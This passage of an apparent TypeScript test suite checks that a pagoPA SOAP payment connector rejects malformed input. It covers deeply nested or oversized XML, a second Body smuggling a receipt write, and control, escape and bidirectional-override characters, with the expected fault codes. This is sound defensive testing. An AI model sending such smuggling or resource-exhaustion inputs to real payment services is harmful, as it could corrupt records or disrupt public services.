    'a 1 MiB description (under the body limit) is refused by the schema: KO PAA_SINTASSI_EXTRAXSD',
    {
      expand: [{ marker: '@@LONG@@', fill: 'Z', times: 1024 * 1024 }],
    },
  );
}

// ---- nesting, attributes ---------------------------------------------------------------------------
category = 'nesting-attributes';
{
  const NEST = '@@NEST@@';
  const UNNEST = '@@UNNEST@@';
  const nest = (levels: number, tag = 'a') => [
    { marker: NEST, fill: `<${tag}>`, times: levels },
    { marker: UNNEST, fill: `</${tag}>`, times: levels },
  ];
  add(
    'nested-10k-in-idPA',
    B.verify,
    setText(B.verify.xml, 'idPA', `${NEST}x${UNNEST}`),
    CLIENT,
    '10 000 nested elements inside idPA are refused by the parser depth limit: soap:Client Fault',
    {
      expand: nest(10000),
    },
  );
  add(
    'nested-10k-in-body',
    B.requestIUV,
    B.requestIUV.xml.replace('</soapenv:Body>', `${NEST}${UNNEST}</soapenv:Body>`),
    CLIENT,
    '10 000 nested elements in the gestionale Body are a soap:Client Fault',
    { expand: nest(10000) },
  );
  add(
    'nested-10k-in-header',
    B.attivaRPT,
    withHeader(B.attivaRPT.xml, `${NEST}${UNNEST}`),
    CLIENT,
    '10 000 nested elements in a legacy Header are a soap:Client Fault',
    { expand: nest(10000) },
  );
  add(
    'nested-10k-emulator',
    B.statoRPT,
    setText(B.statoRPT.xml, 'password', `${NEST}${UNNEST}`),
    CLIENT,
    '10 000 nested elements to the emulator node are a soap:Client Fault',
    { expand: nest(10000) },
  );
  add(
    'nested-200-in-receipt',
    B.sendRT,
    setText(B.sendRT.xml, 'description', `${NEST}x${UNNEST}`),
    xsdKo(PA),
    '200 nested elements (under the depth limit) in a receipt description break the schema: KO PAA_SINTASSI_EXTRAXSD',
    { expand: nest(200, 'd') },
  );
  const attrs = Array.from({ length: 5000 }, (_, i) => ` a${i}="${i}"`).join('');
  add(
    '5000-attributes-on-payload',
    B.verify,
    B.verify.xml.replace('<pafn:paVerifyPaymentNoticeReq>', `<pafn:paVerifyPaymentNoticeReq${attrs}>`),
    xsdKo(PA),
    '5000 attributes on the payload break the schema: KO PAA_SINTASSI_EXTRAXSD',
  );
  add(
    '5000-attributes-on-envelope',
    B.getDebtPosition,
    B.getDebtPosition.xml.replace('<soapenv:Envelope ', `<soapenv:Envelope${attrs} `),
    OK,
    '5000 unknown attributes on the Envelope are ignored: the read-only getDebtPosition answers OK',
  );
  const nsDecls = Array.from({ length: 3000 }, (_, i) => ` xmlns:n${i}="urn:hostile:${i}"`).join('');
  add(
    '3000-namespace-declarations',
    B.verify,
    B.verify.xml.replace('<soapenv:Envelope ', `<soapenv:Envelope${nsDecls} `),
    OK,
    '3000 namespace declarations are parsed and ignored: the read-only verify answers OK',
  );
  add(
    '100k-sibling-elements',
    B.verify,
    intoPayload(B.verify.xml, '@@MANY@@'),
    xsdKo(PA),
    '100 000 unexpected sibling elements break the schema: KO PAA_SINTASSI_EXTRAXSD',
    {
      expand: [{ marker: '@@MANY@@', fill: '<idPA>01234567897</idPA>', times: 100000 }],
    },
  );
  add(
    '100k-upload-items',
    B.upload,
    B.upload.xml.replace('<item>', '@@ITEMS@@<item>'),
    xsdKo(GEST),
    '100 000 empty items in an upload break the schema: KO PPAY_XSD_INVALID before anything is stored',
    {
      expand: [{ marker: '@@ITEMS@@', fill: '<item/>', times: 100000 }],
    },
  );
}

// ---- envelope ---------------------------------------------------------------------------------------
category = 'envelope';
{
  const v = B.verify.xml;
  const g = B.requestIUV.xml;
  const wrongNs = (xml: string) =>
    xml.replace(`xmlns:soapenv="${SOAP11}"`, 'xmlns:soapenv="http://example.org/not-soap/"');
  add(
    'wrong-envelope-ns-paForNode',
    B.verify,
    wrongNs(v),
    CLIENT,
    'an Envelope in a non-SOAP namespace is a soap:Client Fault',
  );
  add(
    'wrong-envelope-ns-gestionale',
    B.requestIUV,
    wrongNs(g),
    CLIENT,
    'a gestionale Envelope in a non-SOAP namespace is a soap:Client Fault',
  );
  add(
    'wrong-envelope-ns-legacy',
    B.verificaRPT,
    wrongNs(B.verificaRPT.xml),
    CLIENT,
    'a legacy Envelope in a non-SOAP namespace is a soap:Client Fault',
  );
  add(
    'wrong-envelope-ns-emulator',
    B.statoRPT,
    wrongNs(B.statoRPT.xml),
    CLIENT,
    'an emulator Envelope in a non-SOAP namespace is a soap:Client Fault',
  );
  const soap12 = (xml: string) => xml.replace(`xmlns:soapenv="${SOAP11}"`, `xmlns:soapenv="${SOAP12}"`);
  add(
    'soap12-paForNode',
    B.verify,
    soap12(v),
    CLIENT,
    'a SOAP 1.2 envelope on the SOAP 1.1 endpoint is a soap:Client Fault',
    {
      headers: {
        'Content-Type': 'application/soap+xml; charset=utf-8; action="paVerifyPaymentNotice"',
        SOAPAction: '"paVerifyPaymentNotice"',
      },
    },
  );
  add(
    'soap12-gestionale',
    B.requestIUV,
    soap12(g),
    CLIENT,
    'a SOAP 1.2 envelope to the gestionale API is a soap:Client Fault',
    {
      headers: { 'Content-Type': 'application/soap+xml; charset=utf-8', SOAPAction: '"requestIUV"' },
    },
  );
  add(
    'payload-as-root',
    B.verify,
    `<?xml version="1.0" encoding="UTF-8"?>\n${bodyInner(v).trim().replace('<pafn:paVerifyPaymentNoticeReq>', '<pafn:paVerifyPaymentNoticeReq xmlns:pafn="http://pagopa-api.pagopa.gov.it/pa/paForNode.xsd">')}`,
    CLIENT,
    'the payload without an Envelope is a soap:Client Fault',
  );
  add(
    'no-body',
    B.verify,
    v.replace(/<soapenv:Body>[\s\S]*<\/soapenv:Body>/, '<soapenv:Header/>'),
    CLIENT,
    'an Envelope without Body is a soap:Client Fault',
  );
  add(
    'empty-body-element',
    B.requestIUV,
    g.replace(/<soapenv:Body>[\s\S]*<\/soapenv:Body>/, '<soapenv:Body/>'),
    CLIENT,
    'an empty Body is a soap:Client Fault',
  );
  add(
    'body-text-only',
    B.verify,
    v.replace(
      /<soapenv:Body>[\s\S]*<\/soapenv:Body>/,
      '<soapenv:Body>paVerifyPaymentNoticeReq</soapenv:Body>',
    ),
    CLIENT,
    'a Body holding only text is a soap:Client Fault',
  );
  add(
    'body-two-children',
    B.verify,
    v.replace('</soapenv:Body>', `${bodyInner(v)}</soapenv:Body>`),
    CLIENT,
    'a Body with two operation elements is a soap:Client Fault',
  );
  add(
    'body-two-operations',
    B.getDebtPosition,
    B.getDebtPosition.xml.replace('</soapenv:Body>', `${bodyInner(B.requestIUV.xml)}</soapenv:Body>`),
    CLIENT,
    'a Body holding a read and a write operation is a soap:Client Fault: nothing is allocated',
  );
  add(
    'two-bodies-read-then-write',
    B.verify,
    v.replace(
      '</soapenv:Envelope>',
      `<soapenv:Body>${bodyInner(B.sendRT.xml)}</soapenv:Body></soapenv:Envelope>`,
    ),
    CLIENT,
    'a second Body smuggling a receipt after a valid verify is a soap:Client Fault: the receipt is not stored',
  );
  add(
    'two-bodies-gestionale',
    B.getDebtPosition,
    B.getDebtPosition.xml.replace(
      '</soapenv:Envelope>',
      `<soapenv:Body>${bodyInner(B.requestIUV.xml)}</soapenv:Body></soapenv:Envelope>`,
    ),
    CLIENT,
    'a second gestionale Body smuggling requestIUV is a soap:Client Fault: no IUV is allocated',
  );
  add(
    'two-headers',
    B.attivaRPT,
    B.attivaRPT.xml.replace('<soapenv:Body>', '<soapenv:Header/><soapenv:Body>'),
    CLIENT,
    'an Envelope with two Headers is a soap:Client Fault',
  );
  add(
    'header-after-body',
    B.verificaRPT,
    B.verificaRPT.xml.replace(
      /(<soapenv:Header>[\s\S]*<\/soapenv:Header>)\s*(<soapenv:Body>[\s\S]*<\/soapenv:Body>)/,
      '$2$1',
    ),
    CLIENT,
    'a Header after the Body is a soap:Client Fault',
  );
  add(
    'extra-envelope-child',
    B.verify,
    v.replace('</soapenv:Envelope>', '<soapenv:Trailer/></soapenv:Envelope>'),
    CLIENT,
    'an unknown element after the Body is a soap:Client Fault',
  );
  add(
    'payload-wrong-namespace',
    B.verify,
    v.replace(
      'xmlns:pafn="http://pagopa-api.pagopa.gov.it/pa/paForNode.xsd"',
      'xmlns:pafn="http://pagopa-api.pagopa.gov.it/pa/paForNode.xsd/v2"',
    ),
    CLIENT,
    'a known operation name in a foreign namespace is a soap:Client Fault',
  );
  add(
    'payload-no-namespace',
    B.requestIUV,
    g
      .replace(
        '<g:requestIUVRequest xmlns:g="http://ppay-connector.it/gestionale/v1">',
        '<requestIUVRequest>',
      )
      .replace('</g:requestIUVRequest>', '</requestIUVRequest>'),
    CLIENT,
    'an unqualified operation element is a soap:Client Fault',
  );
  add(
    'gestionale-op-on-pagopa',
    B.requestIUV,
    B.requestIUV.xml,
    CLIENT,
    'a gestionale operation posted to paForNode is a soap:Client Fault',
    { endpoint: PA },
  );
  add(
    'pagopa-op-on-gestionale',
    B.verify,
    withSecurity(v),
    CLIENT,
    'a pagoPA operation posted to the gestionale API is a soap:Client Fault',
    { endpoint: GEST },
  );
  add(
    'node-op-on-connector',
    B.statoRPT,
    B.statoRPT.xml,
    CLIENT,
    'a node operation posted to the connector is a soap:Client Fault',
    { endpoint: PA_PSP },
  );
  add(
    'fault-as-request',
    B.verify,
    v.replace(
      /<soapenv:Body>[\s\S]*<\/soapenv:Body>/,
      '<soapenv:Body><soapenv:Fault><faultcode>soapenv:Server</faultcode><faultstring>x</faultstring></soapenv:Fault></soapenv:Body>',
    ),
    CLIENT,
    'a Fault sent as a request is a soap:Client Fault',
  );
}

// ---- SOAPAction -------------------------------------------------------------------------------------
category = 'soapaction';
{
  const NO_ACTION = { 'Content-Type': 'text/xml; charset=utf-8' };
  add('missing-paForNode', B.verify, B.verify.xml, CLIENT, 'no SOAPAction header is a soap:Client Fault', {
    headers: NO_ACTION,
  });
  add(
    'missing-gestionale',
    B.requestIUV,
    B.requestIUV.xml,
    CLIENT,
    'no SOAPAction on requestIUV is a soap:Client Fault and allocates nothing',
    { headers: NO_ACTION },
  );
  add(
    'missing-paPerNodo',
    B.inviaRT,
    B.inviaRT.xml,
    CLIENT,
    'no SOAPAction on paaInviaRT is a soap:Client Fault and stores no RT',
    { headers: NO_ACTION },
  );
  add(
    'missing-pagamentoPsp',
    B.attivaRPT,
    B.attivaRPT.xml,
    CLIENT,
    'no SOAPAction on paaAttivaRPT is a soap:Client Fault',
    { headers: NO_ACTION },
  );
  add(
    'missing-richiestaAvvisi',
    B.chiediNumero,
    B.chiediNumero.xml,
    CLIENT,
    'no SOAPAction on paaChiediNumeroAvviso is a soap:Client Fault',
    { headers: NO_ACTION },
  );
  add(
    'missing-emulator',
    B.statoRPT,
    B.statoRPT.xml,
    CLIENT,
    'no SOAPAction to the emulator node is a soap:Client Fault',
    { headers: NO_ACTION },
  );
  add(
    'empty',
    B.sendRT,
    B.sendRT.xml,
    CLIENT,
    'an empty SOAPAction ("") is a soap:Client Fault and stores no receipt',
    { headers: headersFor(B.sendRT, { SOAPAction: '""' }) },
  );
  add(
    'other-op-same-service',
    B.sendRT,
    B.sendRT.xml,
    CLIENT,
    'a receipt under SOAPAction paVerifyPaymentNotice is a soap:Client Fault',
    { headers: headersFor(B.sendRT, { SOAPAction: '"paVerifyPaymentNotice"' }) },
  );
  add(
    'other-op-gestionale',
    B.requestIUV,
    B.requestIUV.xml,
    CLIENT,
    'requestIUV under SOAPAction getReceipt is a soap:Client Fault',
    { headers: headersFor(B.requestIUV, { SOAPAction: '"getReceipt"' }) },
  );
  add(
    'op-of-other-service',
    B.verify,
    B.verify.xml,
    CLIENT,
    'a verify under the legacy SOAPAction paaVerificaRPT is a soap:Client Fault',
    { headers: headersFor(B.verify, { SOAPAction: '"paaVerificaRPT"' }) },
  );
  add(
    'url-prefixed',
    B.verify,
    B.verify.xml,
    CLIENT,
    'a SOAPAction with a namespace URL prefix is a soap:Client Fault',
    {
      headers: headersFor(B.verify, {
        SOAPAction: '"http://pagopa-api.pagopa.gov.it/paVerifyPaymentNotice"',
      }),
    },
  );
  add(
    'wrong-case',
    B.getPayment,
    B.getPayment.xml,
    CLIENT,
    'a SOAPAction in upper case is a soap:Client Fault',
    { headers: headersFor(B.getPayment, { SOAPAction: '"PAGETPAYMENT"' }) },
  );
  add(
    'trailing-space-inside-quotes',
    B.verify,
    B.verify.xml,
    CLIENT,
    'a SOAPAction with a space inside the quotes is a soap:Client Fault',
    { headers: headersFor(B.verify, { SOAPAction: '"paVerifyPaymentNotice "' }) },
  );
  add(
    'two-values',
    B.getPaymentV2,
    B.getPaymentV2.xml,
    CLIENT,
    'two comma-separated SOAPActions are a soap:Client Fault',
    { headers: headersFor(B.getPaymentV2, { SOAPAction: '"paGetPaymentV2", "paGetPayment"' }) },
  );
  add(
    'v1-action-v2-body',
    B.getPaymentV2,
    B.getPaymentV2.xml,
    CLIENT,
    'a paGetPaymentV2 body under SOAPAction paGetPayment is a soap:Client Fault',
    { headers: headersFor(B.getPaymentV2, { SOAPAction: '"paGetPayment"' }) },
  );
  add(
    'action-in-content-type-only',
    B.verify,
    B.verify.xml,
    CLIENT,
    'the action only as a Content-Type parameter (SOAP 1.2 style) is a soap:Client Fault',
    {
      headers: { 'Content-Type': 'text/xml; charset=utf-8; action="paVerifyPaymentNotice"' },
    },
  );
  add(
    'unquoted-accepted',
    B.verify,
    B.verify.xml,
    OK,
    'an unquoted SOAPAction naming the right operation is accepted (WS-I allows both): the read-only verify answers OK',
    {
      headers: headersFor(B.verify, { SOAPAction: 'paVerifyPaymentNotice' }),
    },
  );
  add(
    'emulator-other-op',
    B.elencoFlussi,
    B.elencoFlussi.xml,
    CLIENT,
    'an emulator request under another operation SOAPAction is a soap:Client Fault',
    { headers: headersFor(B.elencoFlussi, { SOAPAction: '"nodoChiediStatoRPT"' }) },
  );
}

// ---- oversized strings, control characters -----------------------------------------------------------
category = 'strings';
{
  const s = (
    name: string,
    base: Base,
    field: string,
    value: string,
    what: string,
    options: AddOptions & { occurrence?: number } = {},
  ) =>
    add(
      name,
      base,
      setText(base.xml, field, value, options.occurrence ?? 0),
      xsdKo(base.endpoint),
      `${what}: KO ${xsdKo(base.endpoint).faultCode}`,
      options,
    );
  s(
    'verify-idStation-36',
    B.verify,
    'idStation',
    '12345678903_01' + 'X'.repeat(22),
    'an idStation of 36 characters (stText35)',
  );
  add(
    'verify-idPA-12-digits',
    B.verify,
    setText(B.verify.xml, 'idPA', '012345678970'),
    ko('PAA_ID_DOMINIO_ERRATO'),
    'an idPA of 12 digits (idPA is stText35): KO PAA_ID_DOMINIO_ERRATO',
  );
  s(
    'getPayment-idBrokerPA-10000',
    B.getPayment,
    'idBrokerPA',
    '1'.repeat(10000),
    'an idBrokerPA of 10 000 digits',
  );
  s(
    'receipt-description-141',
    B.sendRT,
    'description',
    'D'.repeat(141),
    'a receipt description of 141 characters (stText140)',
  );
  s(
    'receipt-companyName-141',
    B.sendRT,
    'companyName',
    'C'.repeat(141),
    'a receipt companyName of 141 characters',
  );
  s(
    'receipt-fullName-71',
    B.sendRT,
    'fullName',
    'N'.repeat(71),
    'a debtor fullName of 71 characters (stText70)',
  );
  s(
    'receipt-email-257',
    B.sendRT,
    'e-mail',
    `${'e'.repeat(245)}@example.org`,
    'a debtor e-mail of 257 characters',
  );
  s(
    'receipt-remittance-141',
    B.sendRT,
    'remittanceInformation',
    'R'.repeat(141),
    'a remittanceInformation of 141 characters',
  );
  s(
    'receiptV2-paymentNote-too-long',
    B.sendRTV2,
    'paymentNote',
    'P'.repeat(211),
    'a paymentNote of 211 characters',
  );
  s('receiptV2-idChannel-36', B.sendRTV2, 'idChannel', 'c'.repeat(36), 'an idChannel of 36 characters');
  s(
    'legacy-ccp-36',
    B.attivaRPT,
    'codiceContestoPagamento',
    'C'.repeat(36),
    'a codiceContestoPagamento of 36 characters in the header',
  );
  s(
    'legacy-psp-36',
    B.chiediNumero,
    'identificativoPSP',
    'P'.repeat(36),
    'an identificativoPSP of 36 characters',
  );
  s(
    'upload-description-141',
    B.upload,
    'description',
    'd'.repeat(141),
    'an upload description of 141 characters',
  );
  s('upload-fullName-71', B.upload, 'fullName', 'f'.repeat(71), 'an upload debtor fullName of 71 characters');
  s('upload-positionId-65', B.upload, 'positionId', 'P'.repeat(65), 'a positionId of 65 characters');
  s('upload-messageId-65', B.upload, 'messageId', 'M'.repeat(65), 'a messageId of 65 characters');
  s(
    'upload-email-257',
    B.upload,
    'email',
    `${'e'.repeat(245)}@example.org`,
    'an upload e-mail of 257 characters',
  );
  s(
    'requestIUV-serviceCode-65',
    B.requestIUV,
    'serviceCode',
    'S'.repeat(65),
    'a serviceCode of 65 characters',
  );
  s(
    'release-reason-too-long',
    B.releaseNotices,
    'reason',
    'r'.repeat(1025),
    'a release reason of 1025 characters',
  );
  s(
    'startPayment-returnUrl-too-long',
    B.startPayment,
    'returnUrl',
    `https://servizi.comune.esempio.it/${'x'.repeat(2048)}`,
    'a returnUrl over 2048 characters',
  );
  s(
    'emulator-password-16',
    B.statoRPT,
    'password',
    'P'.repeat(16),
    'a station password of 16 characters (StationPassword 8..15)',
  );
  add(
    'tab-in-idPA',
    B.verify,
    setText(B.verify.xml, 'idPA', '01234\t567897'),
    ko('PAA_ID_DOMINIO_ERRATO'),
    'a tab inside idPA (stText35): KO PAA_ID_DOMINIO_ERRATO',
  );
  add(
    'emulator-ccp-non-ascii',
    B.statoRPT,
    setText(B.statoRPT.xml, 'codiceContestoPagamento', 'CCP-\u00e0\u00e8\u00ec-\u{1F600}'),
    nodeKo('PPT_RPT_SCONOSCIUTA'),
    'a CCP with accented letters and an emoji asks the node for an unknown RPT: KO PPT_RPT_SCONOSCIUTA',
  );
  add(
    'emulator-ccp-replacement-char',
    B.statoRPT,
    setText(B.statoRPT.xml, 'codiceContestoPagamento', 'CCP\uFFFD\uFFFD'),
    nodeKo('PPT_RPT_SCONOSCIUTA'),
    'a CCP holding U+FFFD (valid UTF-8) asks the node for an unknown RPT: KO PPT_RPT_SCONOSCIUTA',
  );
  add(
    'receipt-receiptId-36',
    B.sendRT,
    setText(B.sendRT.xml, 'receiptId', 'r'.repeat(36)),
    ko('PAA_SEMANTICA'),
    'a receiptId of 36 characters (the paymentToken is at most 35; the XSD says xs:string): KO PAA_SEMANTICA, nothing stored',
  );
  s(
    'newline-in-notice',
    B.getPaymentStatus,
    'noticeNumber',
    '30100000\n0000000144',
    'a newline inside a notice number',
  );
  s(
    'zero-width-space-in-ente',
    B.requestIUV,
    'enteFiscalCode',
    '01234567897\u200B',
    'a zero-width space after the ente fiscal code',
  );
  s(
    'rtl-override-in-service',
    B.requestIUVBatch,
    'serviceCode',
    'TA\u202ERI',
    'a right-to-left override inside a serviceCode',
  );
  s(
    'del-char-in-positionId',
    B.getDebtPosition,
    'noticeNumber',
    '30100000000000014\u007f',
    'a DEL character inside a notice number',
  );
  add(
    'control-char-reference',
    B.sendRT,
    setText(B.sendRT.xml, 'description', 'TARI &#1; 2026'),
    CLIENT,
    'the control character reference &#1; (not an XML 1.0 character) is a soap:Client Fault',
  );
  add(
    'raw-control-byte',
    B.upload,
    setText(B.upload.xml, 'description', 'TARI \u0001 2026'),
    CLIENT,
    'a raw 0x01 byte in element text is a soap:Client Fault',
  );
  add(
    'escape-sequence-byte',
    B.sendRT,
    setText(B.sendRT.xml, 'fullName', 'Anna \u001b[31mFerrari'),
    CLIENT,
    'a raw ESC (terminal escape) byte in a receipt is a soap:Client Fault',
  );
  add(
    'noncharacter-fffe',
    B.getReceipt,
    setText(B.getReceipt.xml, 'receiptId', 'c110729d\uFFFE'),
    CLIENT,
    'the non-character U+FFFE is a soap:Client Fault',
  );
}

// ---- amounts -----------------------------------------------------------------------------------------
category = 'amounts';
{
  const receipt = (name: string, value: string, what: string, options: AddOptions = {}) =>
    add(
      name,
      B.sendRT,
      setText(B.sendRT.xml, 'paymentAmount', value),
      xsdKo(PA),
      `a receipt paymentAmount ${what}: KO PAA_SINTASSI_EXTRAXSD, nothing stored`,
      options,
    );
  receipt('receipt-negative', '-50.00', 'of -50.00');
  receipt('receipt-fractional-cent', '50.005', 'of 50.005 (fractional cent)');
  receipt('receipt-one-decimal', '50.0', 'with one decimal');
  receipt('receipt-no-decimals', '50', 'without decimals');
  receipt('receipt-exponent', '5.00E1', 'in exponent notation');
  receipt('receipt-overflow-1e20', '100000000000000000000.00', 'of 1e20');
  receipt('receipt-max-plus-one-cent', '1000000000.00', 'of 999999999.99 + 0.01');
  receipt('receipt-leading-plus', '+50.00', 'with a leading +');
  receipt('receipt-comma-decimal', '50,00', 'with a decimal comma');
  receipt('receipt-thousands-separator', '1.050,00', 'with a thousands separator');
  receipt('receipt-nan', 'NaN', 'of NaN');
  receipt('receipt-infinity', 'INF', 'of INF');
  receipt('receipt-hex', '0x32', 'in hexadecimal');
  receipt('receipt-fullwidth-digits', '\uFF15\uFF10.\uFF10\uFF10', 'in full-width digits');
  receipt('receipt-empty', '', 'empty');
  add(
    'transfer-negative',
    B.sendRTV2,
    setText(B.sendRTV2.xml, 'transferAmount', '-64.80'),
    xsdKo(PA),
    'a V2 transferAmount of -64.80: KO PAA_SINTASSI_EXTRAXSD',
  );
  add(
    'fee-fractional-cent',
    B.sendRTV2,
    setText(B.sendRTV2.xml, 'fee', '1.001'),
    xsdKo(PA),
    'a V2 fee of 1.001: KO PAA_SINTASSI_EXTRAXSD',
  );
  const legacy = (name: string, value: string, what: string, options: AddOptions = {}) =>
    add(
      name,
      B.attivaRPT,
      setText(B.attivaRPT.xml, 'importoSingoloVersamento', value),
      xsdKo(PA_PSP),
      `an activation importoSingoloVersamento ${what}: KO PAA_SINTASSI_EXTRAXSD, no attempt recorded`,
      options,
    );
  legacy('activation-negative', '-87.50', 'of -87.50');
  legacy('activation-fractional-cent', '87.505', 'of 87.505');
  legacy('activation-exponent', '8.75E1', 'in exponent notation');
  legacy('activation-overflow', '99999999999999.99', 'of 99 999 999 999 999.99');
  legacy('activation-comma', '87,50', 'with a decimal comma');
  const cents = (name: string, value: string, what: string, options: AddOptions = {}) =>
    add(
      name,
      B.upload,
      setText(ownUpload(B.upload.xml, `AMOUNT-${name}`), 'amountCents', value),
      xsdKo(GEST),
      `an upload amountCents ${what}: KO PPAY_XSD_INVALID, nothing stored`,
      options,
    );
  cents('upload-zero', '0', 'of 0');
  cents('upload-negative', '-23450', 'of -23450');
  cents('upload-fractional', '234.50', 'of 234.50 (cents are integers)');
  cents('upload-exponent', '2.345E4', 'in exponent notation');
  cents('upload-over-max', '100000000000', 'of 100 000 000 000 (over 999 999 999.99 euro)');
  cents('upload-long-overflow', '9223372036854775808', 'of 2^63 (overflows a long)');
  cents('upload-comma', '234,50', 'with a decimal comma');
  add(
    'activate-fine-zero',
    B.activateNotice,
    setText(B.activateNotice.xml, 'amountCents', '0'),
    xsdKo(GEST),
    'a fine of 0 cents: KO PPAY_XSD_INVALID, nothing activated',
  );
  add(
    'activate-fine-negative-reduced',
    B.activateNotice,
    setText(B.activateNotice.xml, 'reducedAmountCents', '-2940'),
    xsdKo(GEST),
    'a negative reduced amount: KO PPAY_XSD_INVALID',
  );
  add(
    'startPayment-fractional',
    B.startPayment,
    setText(B.startPayment.xml, 'amountCents', '50.5'),
    xsdKo(GEST),
    'a cart amount of 50.5 cents: KO PPAY_XSD_INVALID, no session',
  );
  add(
    'batch-count-fractional',
    B.requestIUVBatch,
    setText(B.requestIUVBatch.xml, 'count', '2.5'),
    xsdKo(GEST),
    'a requestIUVBatch count of 2.5: KO PPAY_XSD_INVALID, nothing allocated',
  );
  add(
    'batch-count-negative',
    B.requestIUVBatch,
    setText(B.requestIUVBatch.xml, 'count', '-3'),
    xsdKo(GEST),
    'a requestIUVBatch count of -3: KO PPAY_XSD_INVALID',
  );
}

// ---- notice numbers, IUV -----------------------------------------------------------------------------
category = 'notice-numbers';
{
  const SCONOSCIUTO = ko('PAA_PAGAMENTO_SCONOSCIUTO');
  const nn = (
    name: string,
    base: Base,
    value: string,
    expect: Expect,
    what: string,
    options: AddOptions & { field?: string } = {},
  ) => add(name, base, setText(base.xml, options.field ?? 'noticeNumber', value), expect, what, options);
  nn(
    'verify-wrong-check-digit',
    B.verify,
    '301000000000000145',
    SCONOSCIUTO,
    'a notice number with a wrong check digit: KO PAA_PAGAMENTO_SCONOSCIUTO',
  );
  nn(
    'verify-wrong-aux-digit',
    B.verify,
    '901000000000000144',
    SCONOSCIUTO,
    'a notice number with aux digit 9: KO PAA_PAGAMENTO_SCONOSCIUTO',
  );
  nn(
    'verify-wrong-segregation',
    B.verify,
    '302000000000000144',
    SCONOSCIUTO,
    'a notice number with another ente segregation code: KO PAA_PAGAMENTO_SCONOSCIUTO',
  );
  nn(
    'verify-17-digits',
    B.verify,
    '30100000000000014',
    xsdKo(PA),
    'a notice number of 17 digits: KO PAA_SINTASSI_EXTRAXSD',
  );
  nn(
    'verify-19-digits',
    B.verify,
    '3010000000000001440',
    xsdKo(PA),
    'a notice number of 19 digits: KO PAA_SINTASSI_EXTRAXSD',
  );
  nn(
    'verify-letters',
    B.verify,
    '30100000000000O144',
    xsdKo(PA),
    'a notice number with a letter O for a zero: KO PAA_SINTASSI_EXTRAXSD',
  );
  nn(
    'getPayment-wrong-check-digit',
    B.getPayment,
    '301000000000000146',
    SCONOSCIUTO,
    'an activation (paGetPayment) with a wrong check digit: KO PAA_PAGAMENTO_SCONOSCIUTO, nothing activated',
  );
  nn(
    'getPaymentV2-aux-zero-bad-check',
    B.getPaymentV2,
    '001000000000000851',
    SCONOSCIUTO,
    'a paGetPaymentV2 with aux digit 0 and a wrong check digit: KO PAA_PAGAMENTO_SCONOSCIUTO',
  );
  nn(
    'receipt-notice-letters',
    B.sendRT,
    '30100000000000044X',
    xsdKo(PA),
    'a receipt whose notice number has a letter: KO PAA_SINTASSI_EXTRAXSD, nothing stored',
  );
  nn(
    'receipt-creditorReference-too-long',
    B.sendRTV2,
    '0'.repeat(36),
    xsdKo(PA),
    'a receipt creditorReferenceId of 36 characters: KO PAA_SINTASSI_EXTRAXSD',
    { field: 'creditorReferenceId' },
  );
  nn(
    'legacy-verify-wrong-check',
    B.verificaRPT,
    '01000000000000145',
    SCONOSCIUTO,
    'a legacy verify of an IUV with a wrong check digit: KO PAA_PAGAMENTO_SCONOSCIUTO',
    { field: 'identificativoUnivocoVersamento' },
  );
  nn(
    'legacy-verify-iuv-letters',
    B.verificaRPT,
    'ABCDEFGHIJKLMNOPQ',
    SCONOSCIUTO,
    'a legacy verify of an IUV made of letters: KO PAA_PAGAMENTO_SCONOSCIUTO',
    { field: 'identificativoUnivocoVersamento' },
  );
  nn(
    'legacy-activation-wrong-check',
    B.attivaRPT,
    '01000000000000246',
    SCONOSCIUTO,
    'a legacy activation of an IUV with a wrong check digit: KO PAA_PAGAMENTO_SCONOSCIUTO, no attempt recorded',
    { field: 'identificativoUnivocoVersamento' },
  );
  nn(
    'legacy-rt-iuv-36',
    B.inviaRT,
    'I'.repeat(36),
    xsdKo(PA_RT),
    'a legacy RT header IUV of 36 characters: KO PAA_SINTASSI_EXTRAXSD',
    { field: 'identificativoUnivocoVersamento' },
  );
  nn(
    'gest-position-wrong-check',
    B.getDebtPosition,
    '301000000000000145',
    ko('PPAY_POSITION_UNKNOWN'),
    'getDebtPosition of a notice number with a wrong check digit: KO PPAY_POSITION_UNKNOWN',
  );
  nn(
    'gest-status-wrong-aux',
    B.getPaymentStatus,
    '901000000000000144',
    ko('PPAY_POSITION_UNKNOWN'),
    'getPaymentStatus of a notice number with aux digit 9: KO PPAY_POSITION_UNKNOWN',
  );
  nn(
    'gest-status-letters',
    B.getPaymentStatus,
    '3010000000000001AB',
    xsdKo(GEST),
    'getPaymentStatus of a notice number with letters: KO PPAY_XSD_INVALID',
  );
  nn(
    'gest-activate-wrong-check',
    B.activateNotice,
    '301000000000900124',
    ko('PPAY_NOTICE_UNKNOWN'),
    'activateNotice of a notice number with a wrong check digit: KO PPAY_NOTICE_UNKNOWN, nothing activated',
  );
  nn(
    'gest-release-wrong-check',
    B.releaseNotices,
    '301000000000900124',
    okWithItemKo('PPAY_NOTICE_UNKNOWN'),
    'releaseNotices with a wrong check digit is answered OK with the notice KO PPAY_NOTICE_UNKNOWN: nothing released',
  );
  nn(
    'gest-session-wrong-check',
    B.createPaymentSession,
    '301000000000000145',
    ko('PPAY_POSITION_UNKNOWN'),
    'createPaymentSession for a notice number with a wrong check digit: KO PPAY_POSITION_UNKNOWN, no session',
  );
  add(
    'upload-iuv-wrong-check',
    B.upload,
    ownUpload(B.upload.xml, 'IUV-CHECK').replace(
      '<installment>0</installment>',
      '<installment>0</installment><iuv>01000000000000145</iuv>',
    ),
    okWithItemKo('PPAY_NOTICE_UNKNOWN'),
    'an upload item with an IUV whose check digit is wrong (so never issued) is answered OK with the item KO PPAY_NOTICE_UNKNOWN: no position is stored',
    {
      allowedChanges: UPLOAD_TABLES,
    },
  );
}

// ---- fiscal codes, IBANs ------------------------------------------------------------------------------
category = 'fiscal-codes-ibans';
{
  const upload = (
    name: string,
    mutate: (xml: string) => string,
    expect: Expect,
    what: string,
    options: AddOptions = {},
  ) =>
    add(name, B.upload, mutate(ownUpload(B.upload.xml, `FC-${name}`)), expect, what, {
      ...(expect.outcome === 'OK' ? { allowedChanges: UPLOAD_TABLES } : {}),
      ...options,
    });
  const itemKo = 'answered OK with the item KO PPAY_INVALID_INPUT: no position is stored';
  const OK = okWithItemKo('PPAY_INVALID_INPUT');
  const debtor =
    (fc: string, type = 'F') =>
    (xml: string) =>
      setText(setText(xml, 'fiscalCode', fc), 'type', type);
  upload(
    'person-wrong-check-char',
    debtor('RSSMRA85T10A562T'),
    OK,
    `a person fiscal code with a wrong check character is ${itemKo}`,
  );
  upload(
    'person-wrong-month-letter',
    debtor('RSSMRA85Z10A562S'),
    OK,
    `a person fiscal code with month letter Z is ${itemKo}`,
  );
